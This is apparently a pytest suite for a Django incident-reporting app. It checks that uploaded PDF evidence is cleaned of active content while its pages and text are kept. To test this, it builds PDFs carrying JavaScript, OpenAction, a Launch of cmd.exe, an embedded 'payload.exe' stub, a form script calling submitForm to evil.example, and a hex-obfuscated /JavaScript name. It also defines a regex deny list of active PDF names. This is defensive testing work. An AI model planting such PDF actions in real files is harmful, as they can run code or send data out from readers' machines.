"""Issue item 10: PDF evidence by allow-list. Each kind of active content is built here with pikepdf
(no binary fixtures), uploaded through the report form, and the stored file is read back from disk:
the content that acts when a PDF is opened is gone, the pages and text are still there."""

import io
import re

import pikepdf
import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from incidents import evidence
from incidents.models import Evidence, Incident
from tests.incidents.factories import fast_passwords, sign_in

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_passwords")]
_fixtures = (fast_passwords,)

TEXT = "Screenshot of the post CANARY7Q"
# Any of these names left in a stored file is a failure (as a whole name: /AAPL would not count).
ACTIVE_NAMES = re.compile(
    rb"/(JavaScript|JS|OpenAction|AA|Launch|EmbeddedFiles?|AcroForm|XFA|RichMedia\w*|FileAttachment|SubmitForm)"
    rb"(?![A-Za-z0-9#+_.-])"
)


@pytest.fixture
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def _plain() -> pikepdf.Pdf:
    """One page with a line of text in Helvetica, and a link to a web page."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    page.obj["/Resources"] = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    page.obj["/Contents"] = pdf.make_stream(f"BT /F1 14 Tf 72 770 Td ({TEXT}) Tj ET".encode())
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 700, 300, 720]),
        A=Dictionary(S=Name.URI, URI=String("https://facebook.example/post/1")),
    )
    page.obj["/Annots"] = pdf.make_indirect(Array([pdf.make_indirect(link)]))
    return pdf


def _js(code="app.alert('hi')"):
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _javascript(pdf):
    tree = Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())]))
    pdf.Root["/Names"] = Dictionary(JavaScript=pdf.make_indirect(tree))


def _open_action(pdf):
    pdf.Root["/OpenAction"] = pdf.make_indirect(_js())


def _additional_actions(pdf):
    pdf.pages[0].obj["/AA"] = Dictionary(O=_js())
    pdf.Root["/AA"] = Dictionary(WC=_js())


def _launch(pdf):
    launch = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(Type=Name.Action, S=Name.Launch, F=String("cmd.exe"), Next=_js()),
    )
    pdf.pages[0].obj["/Annots"].append(pdf.make_indirect(launch))


def _embedded_file(pdf):
    data = pdf.make_stream(b"MZ this would be a program")
    data["/Type"] = Name.EmbeddedFile
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=data)))
    pdf.Root["/Names"] = Dictionary(EmbeddedFiles=pdf.make_indirect(Dictionary(Names=Array([String("x"), spec]))))
    attachment = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec)
    pdf.pages[0].obj["/Annots"].append(pdf.make_indirect(attachment))


def _form(pdf):
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([72, 600, 300, 620]),
            AA=Dictionary(K=_js("this.submitForm('https://evil.example/')")),
        )
    )
    pdf.pages[0].obj["/Annots"].append(widget)
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root["/AcroForm"] = pdf.make_indirect(Dictionary(Fields=Array([widget]), XFA=xfa))


def _javascript_uri(pdf):
    pdf.pages[0].obj["/Annots"][0]["/A"]["/URI"] = String("javascript:app.alert(1)")


KINDS = {
    "JavaScript": _javascript,
    "OpenAction": _open_action,
    "AA": _additional_actions,
    "Launch": _launch,
    "EmbeddedFile": _embedded_file,
    "forms (AcroForm, XFA)": _form,
    "javascript: link": _javascript_uri,
}


def _bytes(pdf, **save) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def _with(kind) -> bytes:
    pdf = _plain()
    KINDS[kind](pdf)
    return _bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def _report(client, cast, data, name="post.pdf"):
    sign_in(client, cast.sam)
    form = {
        "category": "parent_post",
        "platform": "facebook",
        "seen_at": "2026-01-05T10:00",
        "involved": "parent",
        "description": "A post.",
        "child_at_risk": "no",
        "files": [SimpleUploadedFile(name, data, content_type="application/pdf")],
    }
    return client.post(reverse("incidents:report"), form)


def _stored(item: Evidence) -> bytes:
    return evidence.path_of(item.stored_name).read_bytes()


def _text(data: bytes) -> str:
    return "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages)


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_each_kind_of_active_content_is_made_and_is_really_there(kind):
    """The fixtures are what they say: the raw file carries the active content."""
    data = _with(kind)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert evidence.pdf_active_content(pdf), kind
    assert TEXT in _text(data)


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_active_content_is_removed_and_the_page_is_kept(client, cast, media, kind):
    data = _with(kind)
    assert _report(client, cast, data).status_code == 302
    item = Evidence.objects.get()
    stored = _stored(item)
    assert not ACTIVE_NAMES.search(stored), ACTIVE_NAMES.search(stored).group()
    assert b"javascript:" not in stored.lower() and b"cmd.exe" not in stored and b"MZ this" not in stored
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert evidence.pdf_active_content(pdf) == []
        assert len(pdf.pages) == 1
    assert TEXT in _text(stored)
    # What was sent is recorded as well as what is kept (the timeline has both hashes).
    entry = Incident.objects.get().timeline.get(kind="evidence_added")
    assert entry.data["original_sha256"] != entry.data["sha256"] == item.sha256


def test_a_plain_pdf_keeps_its_text_and_its_web_link(client, cast, media):
    assert _report(client, cast, _bytes(_plain())).status_code == 302
    stored = _stored(Evidence.objects.get())
    assert TEXT in _text(stored)
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        (link,) = pdf.pages[0].obj["/Annots"]
        assert str(link["/A"]["/URI"]) == "https://facebook.example/post/1"
    sign_in(client, cast.helen)
    response = client.get(reverse("incidents:evidence_download", args=[Evidence.objects.get().public_id]))
    assert response["Content-Type"] == "application/pdf"
    assert TEXT in _text(b"".join(response.streaming_content))


def test_an_obfuscated_name_is_read_as_the_name_it_spells(client, cast, media):
    """/J#61vaScript is /JavaScript to a PDF reader; a byte search would miss it, the parser does not."""
    data = _with("JavaScript").replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in data
    assert _report(client, cast, data).status_code == 302
    stored = _stored(Evidence.objects.get())
    assert not ACTIVE_NAMES.search(stored) and b"#61" not in stored and b"app.alert" not in stored


def test_a_password_protected_pdf_is_refused_with_a_reason(client, cast, media):
    data = _bytes(_plain(), encryption=pikepdf.Encryption(user="secret", owner="secret"))
    response = _report(client, cast, data, name="locked.pdf")
    assert response.status_code == 400
    assert "“locked.pdf” is protected by a password" in response.content.decode()
    assert not Incident.objects.exists() and not list(media.rglob("*.pdf"))


def test_a_pdf_locked_only_against_editing_is_stored_unlocked(client, cast, media):
    """An owner password alone does not stop anyone reading the file: it is opened and rewritten."""
    data = _bytes(_plain(), encryption=pikepdf.Encryption(user="", owner="secret"))
    assert _report(client, cast, data).status_code == 302
    stored = _stored(Evidence.objects.get())
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert not pdf.is_encrypted
    assert TEXT in _text(stored)


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >> garbage", b"%PDF-1.4\n%%EOF\n", b"%PDF-" + b"\x00" * 200],
    ids=["garbage", "empty", "nul bytes"],
)
def test_a_damaged_pdf_is_refused_with_a_reason(client, cast, media, data):
    response = _report(client, cast, data, name="broken.pdf")
    assert response.status_code == 400
    page = response.content.decode()
    assert "“broken.pdf” looks damaged" in page or "“broken.pdf” has no pages" in page
    assert not Incident.objects.exists() and not list(media.rglob("*.pdf"))


def test_a_refused_pdf_among_good_files_changes_nothing(client, cast, media):
    sign_in(client, cast.sam)
    good = SimpleUploadedFile("good.pdf", _bytes(_plain()), content_type="application/pdf")
    bad = SimpleUploadedFile(
        "locked.pdf",
        _bytes(_plain(), encryption=pikepdf.Encryption(user="x", owner="x")),
        content_type="application/pdf",
    )
    form = {
        "category": "parent_post",
        "platform": "facebook",
        "seen_at": "2026-01-05T10:00",
        "involved": "parent",
        "description": "A post.",
        "child_at_risk": "no",
        "files": [good, bad],
    }
    assert client.post(reverse("incidents:report"), form).status_code == 400
    assert not Incident.objects.exists() and not Evidence.objects.exists()


def test_if_cleaning_ever_missed_something_the_check_refuses_the_file(client, cast, media, monkeypatch):
    """The output is read back and checked independently of the cleaning: a gap in the cleaning
    (here: no cleaning at all) is a refusal naming what was found, never a stored script."""
    monkeypatch.setattr(evidence, "_strip_active", lambda pdf: None)
    response = _report(client, cast, _with("OpenAction"), name="auto.pdf")
    assert response.status_code == 400
    assert "“auto.pdf” contains active content that could not be removed (/JS, /JavaScript, /OpenAction)" in (
        response.content.decode()
    )
    assert not Incident.objects.exists() and not list(media.rglob("*.pdf"))
